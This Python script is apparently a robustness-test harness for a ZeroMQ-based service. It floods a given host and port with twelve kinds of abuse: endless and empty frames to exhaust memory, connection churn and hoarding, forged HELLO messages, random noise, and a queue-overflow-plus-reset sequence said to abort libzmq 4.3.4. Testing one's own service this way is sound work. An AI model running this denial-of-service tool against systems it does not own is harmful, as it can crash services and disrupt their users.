#!/usr/bin/env python3
"""attacker.py KIND HOST:PORT [SECONDS [N]]: hurt a run that strangers can reach, by raw sockets and Python alone.

Prints what it did: connections made, times it was cut off, MiB sent. Only for runs of your own."""
import os
import socket
import struct
import sys
import threading
import time

GREETING = b'\xff' + bytes(8) + b'\x7f\x03\x01' + b'NULL'.ljust(20, b'\0') + bytes(32)
MIB = 1 << 20


def command(name, body):
    body = bytes([len(name)]) + name + body
    return bytes([4, len(body)]) + body


READY = command(b'READY', b'\x0bSocket-Type' + struct.pack('>I', 6) + b'DEALER')
PING = command(b'PING', b'\0\x64' + b'ctx')


def frame(body, more=False):
    if len(body) < 256:
        return bytes([1 if more else 0, len(body)]) + body
    return bytes([3 if more else 2]) + struct.pack('>Q', len(body)) + body


def hello(threads=1):
    """The Envelope of proto/mnemo.proto with a HELLO of a process that never was before."""
    name = b'nobody:1'
    body = b'\x08\x04\x1a' + bytes([len(name)]) + name + b'\x21' + os.urandom(8) + b'\x29' + os.urandom(8) + b'\x30' + bytes([threads])
    return frame(b'\x52' + bytes([len(body)]) + body)


HEARTBEAT = frame(b'\x6a\0')
RESULT = frame(b'\x62\x04\x08\x01\x18\x01')
ENDLESS = frame(bytes(MIB), more=True)


class Attack:
    def __init__(self, where, seconds):
        host, port = where.rsplit(':', 1)
        self.where = host.replace('tcp://', '').strip('[]'), int(port)
        self.end = time.monotonic() + seconds
        self.made = self.cut = self.bytes = self.failed = 0
        self.lock = threading.Lock()

    def going(self):
        return time.monotonic() < self.end

    def dial(self, speak=True):
        """None: nobody listens, or no more descriptors."""
        try:
            peer = socket.create_connection(self.where, timeout=2)
            peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if speak: # nothing may come before the other side has said READY
                peer.sendall(GREETING + READY)
                heard = b''
                while b'READY' not in heard:
                    part = peer.recv(256)
                    if not part:
                        raise OSError('closed')
                    heard += part
        except OSError:
            with self.lock:
                self.failed += 1
            time.sleep(0.01)
            return None
        with self.lock:
            self.made += 1
        return peer

    def say(self, peer, words):
        """False: cut off."""
        try:
            peer.settimeout(max(0.01, min(1, self.end - time.monotonic())))
            peer.sendall(words)
        except socket.timeout:
            return True
        except OSError:
            with self.lock:
                self.cut += 1
            return False
        with self.lock:
            self.bytes += len(words)
        return True

    def repeat(self, words):
        """Say it again and again, by a new connection when this one is cut off; never read."""
        peer = None
        while self.going():
            peer = peer or self.dial()
            if peer and not self.say(peer, words):
                peer.close()
                peer = None
        if peer:
            peer.close()

    # ---- kinds

    def reset(self):
        """More than a queue takes, a PING behind it, and a reset: aborts libzmq 4.3.4 when its queue is full."""
        while self.going():
            peer = self.dial()
            if peer is None:
                continue
            until = time.monotonic() + 0.3
            words = (frame(b'junk') * 8 + PING) * 64
            while time.monotonic() < until and self.say(peer, words):
                pass
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
            peer.close()

    def endless(self):
        self.repeat(ENDLESS)

    def endless_small(self):
        """The most memory for a byte: empty frames."""
        self.repeat(frame(b'', more=True) * 4096)

    def heartbeats(self):
        self.repeat(HEARTBEAT * 64)

    def results(self):
        self.repeat(RESULT * 64)

    def damaged(self):
        self.repeat(b''.join(frame(os.urandom(20)) for _ in range(64)))

    def hellos(self):
        self.repeat(b''.join(hello() for _ in range(1000)))

    def noise(self):
        """Not our protocol at all."""
        while self.going():
            peer = self.dial(speak=False)
            if peer:
                self.say(peer, os.urandom(4096))
                peer.close()

    def churn(self):
        while self.going():
            peer = self.dial()
            if peer:
                peer.close()

    def newcomers(self):
        """HELLO by a new connection each, and never JOIN; as many stay as can."""
        kept = []
        while self.going():
            peer = self.dial()
            if peer is None:
                if not kept:
                    continue
            else:
                self.say(peer, hello())
                kept.append(peer)
            if peer is None or len(kept) > self.number:
                kept.pop(0).close()
        for peer in kept:
            peer.close()

    def silent(self):
        """Connections that say nothing, all at once; then they wait."""
        kept = []
        while self.going() and len(kept) < self.number:
            peer = self.dial(speak=False)
            if peer:
                kept.append(peer)
        while self.going():
            time.sleep(0.05)
        for peer in kept:
            peer.close()

    def deaf(self):
        """HELLO and a handshake that it never reads the answer of; then it waits, and comes again when cut off."""
        self.repeat(hello() + HEARTBEAT)


KINDS = ['reset', 'endless', 'endless_small', 'heartbeats', 'results', 'damaged', 'hellos', 'noise', 'churn', 'newcomers',
         'silent', 'deaf']
THREADS = {'reset': 20, 'silent': 1, 'newcomers': 1}


def main():
    if len(sys.argv) < 3 or sys.argv[1] not in KINDS:
        sys.exit('usage: attacker.py KIND HOST:PORT [SECONDS [N]]; KIND is one of ' + ' '.join(KINDS))
    try:
        import resource
        most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 20000), most))
    except (ImportError, ValueError, OSError):
        pass
    kind = sys.argv[1]
    attack = Attack(sys.argv[2], float(sys.argv[3]) if len(sys.argv) > 3 else 5)
    attack.number = int(sys.argv[4]) if len(sys.argv) > 4 else 1000
    threads = [threading.Thread(target=getattr(attack, kind)) for _ in range(THREADS.get(kind, 4))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print('%s: %d connections, cut off %d times, not let in %d times, %.1f MiB said'
          % (kind, attack.made, attack.cut, attack.failed, attack.bytes / MIB))


if __name__ == '__main__':
    main()
